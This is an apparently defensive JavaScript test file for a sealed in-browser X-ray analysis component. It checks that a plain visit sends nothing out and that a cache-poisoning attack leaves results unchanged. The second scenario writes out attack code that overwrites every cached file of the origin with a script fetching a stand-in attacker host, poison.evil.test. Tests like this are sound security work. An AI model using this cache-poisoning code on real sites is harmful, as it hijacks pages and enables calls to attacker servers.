/* scenarios.js - attacks in several steps, and a visit without one, against the servers' own log.
 * SPDX-License-Identifier: MIT */
import { openRoom, sealState, sleep } from "./places.js";

const FILM = "model/samples/nih_00000001_000.png";

/** Reads films by the page's code, which gets nothing back, and waits for them. */
async function readFilms(page, room, count) {
  await page.evaluate((n) => {
    for (let i = 0; i < n; i += 1) void document.querySelector("evax-xray").analyze(globalThis.film, { name: `${i}` });
  }, count);
  for (let tries = 0; ; tries += 1) {
    const done = await room.evaluate(() => document.querySelector("evax-xray").shadowRoot.querySelectorAll(".films li.done").length);
    if (done >= count) return;
    if (tries > 900) throw new Error(`${done} of ${count} films were read`);
    await sleep(100);
  }
}

const fetchFilm = (page) => page.evaluate(async (address) => {
  globalThis.film = await (await fetch(address)).blob();
}, FILM);

/** The scores of the film that is shown. */
const scores = (room) => room.evaluate(() => [...document.querySelector("evax-xray").shadowRoot
  .querySelectorAll(".results tbody tr")].map((row) => row.textContent));

/* A browser looks for a newer service worker when it pleases; nothing of the page goes with it. */
const UPDATE = /^GET http:\/\/localhost\/service-worker\.js +(referer=\S+ )?service-worker=script \S+ *$/;
/** Lines of the log that this browser's page caused: not what a browser asks its maker. */
const ofPages = (lines) => lines.filter(({ text }) => /localhost|evil\.test/.test(text) && !UPDATE.test(text));

/** By name: "" if it goes as SECURITY.md says, else what happened. */
export const SCENARIOS = {
  async "an innocent visit of 50 films: the servers' log after the seal is empty, but for the browser's own look for a newer service worker"({ profile, lab }) {
    const page = await profile.newPage();
    const room = await openRoom(page);
    await fetchFilm(page);
    const from = lab.log.length;
    if (await sealState(room) !== "sealed") return "it is not sealed";
    await readFilms(page, room, 50);
    await sleep(3_000);
    await page.close();
    return ofPages(lab.log.slice(from)).map(({ kind, text }) => `${kind} ${text}`).join("; ");
  },

  async "a poisoned cache: another page of the origin rewrites all that is kept; nothing changes and nothing leaves"({ profile, lab }) {
    const page = await profile.newPage();
    const before = await openRoom(page);
    await fetchFilm(page);
    await readFilms(page, before, 1);
    const expected = await scores(before);
    await page.goto("http://localhost/open.html");
    const rewritten = await page.evaluate(async () => {
      let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          const type = (await cache.match(request)).headers.get("content-type") ?? "";
          const evil = type.includes("html")
            ? "<!doctype html><script>fetch('https://poison.evil.test/')</script>" : "fetch('https://poison.evil.test/')";
          await cache.put(request, new Response(evil, { headers: { "content-type": type } }));
          count += 1;
        }
      }
      return count;
    });
    if (rewritten < 10) return `only ${rewritten} files were there to rewrite`;
    const from = lab.log.length;
    const after = await openRoom(page);
    await fetchFilm(page);
    await readFilms(page, after, 1);
    const found = await scores(after);
    await page.close();
    if (JSON.stringify(found) !== JSON.stringify(expected)) return "the findings changed";
    return lab.log.slice(from).filter(({ text }) => text.includes("poison.evil")).map(({ text }) => text).join("; ");
  },
};
